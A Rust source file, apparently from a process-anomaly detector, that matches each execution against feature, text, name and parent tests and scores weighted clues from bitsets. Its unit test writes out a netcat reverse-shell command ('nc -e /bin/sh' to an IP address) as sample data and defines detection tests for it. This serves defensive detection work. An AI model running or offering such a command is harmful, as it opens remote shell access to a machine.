//! What a question is looked for by, and finding it in one execution.
//!
//! A question may have hundreds of clues, and a baseline a hundred thousand executions. So each execution is read once:
//! which of the tests it passes becomes a set of bits, and clues are answered from the bits.

use std::collections::HashMap;

use anomaly_vectorizer::{Embedder, Embedding, Execution, Hashed, Kind};

use crate::needles::Needles;

/// Most tests that a question has; what would come on top is left out. The whole vocabulary has fewer.
pub(crate) const MAX_TESTS: usize = 8192;

/// One thing that an execution has or has not.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub(crate) enum Test {
    /// A feature by its hash.
    Feature(u64),
    /// A text in small letters, anywhere in the command line.
    Text(String),
    /// The same as a whole word.
    Whole(String),
    /// The same anywhere in the program's name.
    InName(String),
    /// The same anywhere in the parent's or grandparent's name.
    InParents(String),
    /// What surrounds it, in the words of a row.
    Surroundings(&'static str),
    /// The kind of act.
    Kind(Kind),
}

/// The number of a test in its question.
pub(crate) type TestId = u16;

/// What speaks for a part of a question, and how much.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Clue {
    /// Of every list at least one test is passed.
    All(f32, Vec<Vec<TestId>>),
    /// The share of these weights that is there, where it is at least half.
    Share(f32, Vec<(TestId, f32)>),
}

/// The tests of a question, each once, with what it is called.
#[derive(Debug, Clone, Default)]
pub(crate) struct Tests {
    ids: HashMap<Test, TestId>,
    /// What people call each of them: `flag -e`.
    names: Vec<String>,
    /// Features by hash, sorted.
    features: Vec<(u64, TestId)>,
    /// Texts of the command line, of the name, of the parents' names.
    in_line: Needles,
    in_name: Needles,
    in_parents: Needles,
    surroundings: Vec<(&'static str, TestId)>,
    kinds: Vec<(Kind, TestId)>,
}

impl Tests {
    /// The number of a test, which is new or not; `None` beyond [`MAX_TESTS`].
    pub(crate) fn add(&mut self, test: Test, name: &str) -> Option<TestId> {
        if let Some(&known) = self.ids.get(&test) {
            return Some(known);
        }
        let id = TestId::try_from(self.ids.len()).ok().filter(|&id| usize::from(id) < MAX_TESTS)?;
        self.names.push(name.to_owned());
        match &test {
            Test::Feature(hash) => {
                let at = self.features.partition_point(|(known, _)| known < hash);
                self.features.insert(at, (*hash, id));
            }
            Test::Text(text) => self.in_line.add(text, false, id),
            Test::Whole(text) => self.in_line.add(text, true, id),
            Test::InName(text) => self.in_name.add(text, false, id),
            Test::InParents(text) => self.in_parents.add(text, false, id),
            Test::Surroundings(words) => self.surroundings.push((words, id)),
            Test::Kind(kind) => self.kinds.push((*kind, id)),
        }
        self.ids.insert(test, id);
        Some(id)
    }

    /// What people call a test.
    pub(crate) fn name(&self, id: TestId) -> &str {
        &self.names[usize::from(id)]
    }

    /// Every test with its number.
    pub(crate) fn iter(&self) -> impl Iterator<Item = (&Test, TestId)> {
        self.ids.iter().map(|(test, &id)| (test, id))
    }

    /// The test of a feature.
    pub(crate) fn feature(&self, hash: u64) -> Option<TestId> {
        let at = self.features.binary_search_by_key(&hash, |(known, _)| *known).ok()?;
        Some(self.features[at].1)
    }
}

/// What one execution passes, and the memory to find it out in: used again for the next.
#[derive(Debug, Default)]
pub(crate) struct Reader {
    embedder: Hashed,
    embedding: Embedding,
    passed: Vec<u64>,
    any: bool,
    /// The command line and the names in small letters.
    line: String,
    name: String,
    parents: String,
}

impl Reader {
    /// Reads an execution. Whether it passes any test at all.
    pub(crate) fn read(
        &mut self,
        tests: &Tests,
        execution: &Execution,
        surroundings: &[&'static str],
    ) -> bool {
        self.passed.clear();
        self.passed.resize(tests.names.len().div_ceil(64), 0);
        self.any = false;
        self.embedder.embed(execution, &mut self.embedding);
        self.write_text(execution);
        let Self { embedding, passed, any, line, name, parents, .. } = self;
        let mut pass = |id: TestId| {
            passed[usize::from(id) / 64] |= 1 << (id % 64);
            *any = true;
        };
        // Both are sorted by hash: one pass over the longer.
        let mut wanted = tests.features.iter().peekable();
        for feature in &embedding.features {
            while wanted.next_if(|(hash, _)| *hash < feature.hash).is_some() {}
            if let Some((_, id)) = wanted.next_if(|(hash, _)| *hash == feature.hash) {
                pass(*id);
            }
        }
        tests.in_line.find(line, &mut pass);
        tests.in_name.find(name, &mut pass);
        tests.in_parents.find(parents, &mut pass);
        let around = tests.surroundings.iter().filter(|(words, _)| surroundings.contains(words));
        around.for_each(|(_, id)| pass(*id));
        let kinds = tests.kinds.iter().filter(|(kind, _)| *kind == execution.kind);
        kinds.for_each(|(_, id)| pass(*id));
        self.any
    }

    fn write_text(&mut self, execution: &Execution) {
        let Self { line, name, parents, .. } = self;
        line.clear();
        if execution.kind.is_act() || execution.arguments.is_empty() {
            line.push_str(&execution.command_line());
        } else {
            for (position, argument) in execution.arguments.iter().enumerate() {
                if position > 0 {
                    line.push(' ');
                }
                line.push_str(argument);
            }
        }
        line.make_ascii_lowercase();
        name.clear();
        name.push_str(&execution.name);
        name.make_ascii_lowercase();
        parents.clear();
        parents.push_str(&execution.parent);
        parents.push(' ');
        parents.push_str(&execution.grandparent);
        parents.make_ascii_lowercase();
    }

    /// Whether a test is passed.
    pub(crate) fn passes(&self, id: TestId) -> bool {
        self.passed[usize::from(id) / 64] & 1 << (id % 64) != 0
    }

    /// How much a clue says of what was read, 0 to 1.
    pub(crate) fn strength(&self, clue: &Clue) -> f32 {
        match clue {
            Clue::All(strength, lists) => {
                let all = lists.iter().all(|list| list.iter().any(|&id| self.passes(id)));
                if all { *strength } else { 0.0 }
            }
            Clue::Share(strength, weights) => {
                let total: f32 = weights.iter().map(|(_, weight)| weight).sum();
                let there: f32 =
                    weights.iter().filter(|(id, _)| self.passes(*id)).map(|(_, weight)| weight).sum();
                if there >= 0.5 * total { strength * there / total } else { 0.0 }
            }
        }
    }

    /// The tests of a clue that are passed.
    pub(crate) fn found<'s>(&'s self, clue: &'s Clue) -> Box<dyn Iterator<Item = TestId> + 's> {
        match clue {
            Clue::All(_, lists) => Box::new(lists.iter().flatten().copied().filter(|&id| self.passes(id))),
            Clue::Share(_, weights) => {
                Box::new(weights.iter().map(|(id, _)| *id).filter(|&id| self.passes(id)))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::readings::of_arguments;

    #[test]
    fn an_execution_is_read_once_for_all_clues() {
        let hashed = Hashed::default();
        let mut tests = Tests::default();
        let flag = crate::readings::as_class(&hashed, anomaly_vectorizer::FeatureClass::Flag, "-e");
        let flag = tests.add(Test::Feature(flag[0].hash), "flag -e").expect("room");
        let name = tests.add(Test::InName("nc".into()), "nc").expect("room");
        let line = tests.add(Test::Whole("sh".into()), "sh").expect("room");
        assert_eq!(tests.add(Test::Whole("sh".into()), "sh"), Some(line));
        let socket = tests.add(Test::Surroundings("a public connection on 0-2"), "socket").expect("room");

        let mut reader = Reader::default();
        let shell = of_arguments("nc", ["nc", "-e", "/bin/sh", "198.51.100.7"]);
        assert!(reader.read(&tests, &shell, &[]));
        let passes = [flag, name, line, socket].map(|id| reader.passes(id));
        assert_eq!(passes, [true, true, true, false]);
        assert_eq!(reader.strength(&Clue::All(0.9, vec![vec![socket, flag], vec![name]])), 0.9);
        assert_eq!(reader.strength(&Clue::All(0.9, vec![vec![socket], vec![name]])), 0.0);
        assert_eq!(reader.strength(&Clue::Share(1.0, vec![(flag, 3.0), (socket, 1.0)])), 0.75);
        assert_eq!(reader.strength(&Clue::Share(1.0, vec![(flag, 1.0), (socket, 3.0)])), 0.0);

        assert!(!reader.read(&tests, &of_arguments("ls", ["ls", "-l"]), &[]));
        assert!(!reader.passes(flag), "nothing is left of the one before");
    }
}
